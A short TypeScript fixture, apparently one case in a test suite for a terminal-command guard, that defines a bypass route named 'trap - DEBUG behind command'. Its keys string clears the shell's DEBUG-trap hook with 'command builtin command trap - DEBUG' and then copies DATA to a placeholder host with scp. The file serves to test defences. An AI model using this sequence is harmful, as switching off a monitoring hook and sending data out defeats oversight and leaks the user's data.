import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'trap - DEBUG behind command',
  source: 'attempts to get round a hook of the shell',
  keys: ['command builtin command trap - DEBUG; scp DATA host:\r'],
};
